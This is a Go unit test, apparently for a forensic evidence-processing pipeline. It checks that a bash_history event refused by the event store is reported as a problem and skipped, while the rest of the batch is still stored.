// TestRefusedEvent: an event the store refuses is reported and dropped; its batch and the rest
// are stored.
func TestRefusedEvent(t *testing.T) {
	pkg, _ := collect(t, hostRoot(t))
	db := sqldbtest.Open(t, sqldb.DialectSQLite)
	e := newEnv(t, db, processing.Config{})
	proc, err := processing.New(processing.Config{Evidence: e.ev, Acquisitions: e.acq, Events: picky{e.events, "hostile"}, Bucket: e.bucket, BatchSize: 1000})
	if err != nil {
		t.Fatal(err)
	}
	ref := e.receive(pkg)
	if err := e.proc.Process(context.Background(), ref.ID); err != nil {
		t.Fatal(err)
	}
	ev := e.receive(pkg)
	if err := proc.Process(context.Background(), ev.ID); err != nil {
		t.Fatal(err)
	}
	got := e.evidence(ev.ID)
	r := got.Processing
	if got.State != quarry.EvidenceProcessed || e.count(ev.ID) != e.count(ref.ID)-1 || r.Events != e.count(ev.ID) {
		t.Fatalf("state %s, %d events (report %d), want one fewer than %d", got.State, e.count(ev.ID), r.Events, e.count(ref.ID))
	}
	if pr := r.Parsers["bash_history"]; pr.Events != bashEvents-1 || pr.Skipped != 1 {
		t.Errorf("bash_history report %+v", pr)
	}
	found := false
	for _, p := range r.Problems {
		found = found || (p.Path == "files/root/.bash_history" && strings.Contains(p.Reason, "refused by the store"))
	}
	if !found {
		t.Errorf("problems %+v: the refused event is not reported", r.Problems)
	}
}

func sha256Of(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}
